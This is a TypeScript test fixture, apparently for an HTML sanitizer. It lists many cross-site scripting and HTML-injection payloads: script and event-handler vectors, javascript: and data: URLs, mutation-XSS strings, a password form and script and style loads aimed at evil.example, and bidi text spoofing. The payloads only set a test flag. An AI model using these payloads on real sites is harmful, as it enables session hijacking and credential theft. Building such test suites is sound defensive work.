/**
 * Content that an operator's CMS could send after an attacker got into it. Scripts that run set
 * `window.__xss`, so that a browser test can detect them. Attacks that make requests address them to
 * evil.example.
 */

const RUN = 'window.__xss=1'
const DATA_PAGE = 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg=='

/** Attacks in well-formed HTML. */
export const HOSTILE_HTML: readonly string[] = [
  // Attacks by scripts.
  `<script>${RUN}</script>`,
  '<script src="https://evil.example/x.js"></script>',
  `<script type="module">${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  // Attacks by event handlers.
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}" onload="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img src=x\u0000 onerror=${RUN}>`,
  `<img """><script>${RUN}</script>">`,
  `<body onload=${RUN}>`,
  `<p onpointerenter=${RUN} onfocus=${RUN} tabindex=0 autofocus>x</p>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video autoplay onloadstart=${RUN}><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div popover id=p onbeforetoggle=${RUN}>x</div><button popovertarget=p>x</button>`,
  `<div style="animation-name:x" onanimationstart=${RUN}>x</div>`,
  // Attacks by links.
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href=" \u0001javascript:${RUN}">x</a>`,
  `<a href="java&#9;script:${RUN}">x</a>`,
  `<a href="java&NewLine;script&colon;${RUN}">x</a>`,
  `<a href="&#x6A;avascript&#58;${RUN}">x</a>`,
  `<a href="${DATA_PAGE}">x</a>`,
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<a href="/m/api/logout" ping="https://evil.example/">x</a>',
  `<map name=m><area href="javascript:${RUN}" shape=default></map><img usemap=#m src=/x.png>`,
  // Attacks by frames, plugins, documents.
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="${DATA_PAGE}"></object>`,
  `<embed src="${DATA_PAGE}">`,
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="manifest" href="https://evil.example/m.json">',
  // Attacks by styles.
  '<style>*{display:none!important}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/x)">x</p>',
  '<p class="appRoot" id="root">x</p>',
  '<div slot="x" is="x-evil" part="x">x</div>',
  '<font size=99 color=red face="x">x</font>',
  // Attacks by SVG and MathML.
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${RUN}" /><a id=a><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="${DATA_PAGE}#x"/></svg>`,
  `<svg><image href="x" onerror=${RUN} /></svg>`,
  `<math><mtext href="javascript:${RUN}">x</mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  // Attacks by forms that request passwords.
  '<form action="https://evil.example/" method=post><input name=password type=password><button>Log in</button></form>',
  `<input autofocus onfocus=${RUN}>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  '<input name=attributes><input name=innerHTML>',
  '<select><option>x</option></select>',
  '<dialog open>Log in again: <input></dialog>',
  // Attacks by mutation: markup that changes its meaning when it is serialised and parsed again.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg>`,
  `<table><caption><script>${RUN}</script></caption><tr><td><svg onload=${RUN}></svg></table>`,
  `<ul><li><ol><li><p onclick=${RUN}><h1 onclick=${RUN}>x</ol></ul>`,
  // Attacks by text direction: text that reads as something else.
  '<p>\u202Egpj.exe\u202C</p>',
  '<p>&#x202E;moc.live&#x202C; &#8237;x</p>',
  '<bdo dir="rtl">elpmaxe.live</bdo>',
  '<p dir="rtl" lang="x" onclick=1>\u2066\u2067\u2068x</p>',
]

/** HTML attacks that swallow the content after them, such as an unclosed comment. */
export const UNCLOSED_HOSTILE_HTML: readonly string[] = [
  '<plaintext>',
  `<!--<img src="--><img src=x onerror=${RUN}>`,
  `<img src=x onerror=${RUN}//`,
  `<textarea></textarea><img src=x onerror=${RUN}><textarea>`,
  '<style><!--',
  `<title><img src=x onerror=${RUN}>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]><iframe>`,
  `<?xml version="1.0"?><script>${RUN}`,
  '<select><style>',
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></form>`,
  `<p><b><i><a href="javascript:${RUN}"><div><table><a href="javascript:${RUN}">x</table></div></i></b></p>`,
]

export const HOSTILE_PLAIN_TEXTS: readonly string[] = [
  `<img src=x onerror=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `"><svg onload=${RUN}>`,
  `' onmouseover='${RUN}`,
  '\u202Egpj.exe\u202C \u202Dx',
  `javascript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `</script><script>${RUN}</script><!--`,
  '\u0000\u0008\uFEFF\u2028x\uD800',
  '%3Cscript%3Ewindow.__xss=1%3C/script%3E',
]

export const HOSTILE_URLS: readonly string[] = [
  `javascript:${RUN}`,
  DATA_PAGE,
  '//evil.example/',
  '/\\evil.example/',
  'https://user:pass@evil.example/',
  `/m/home" onclick="${RUN}`,
  ' https://evil.example/',
]
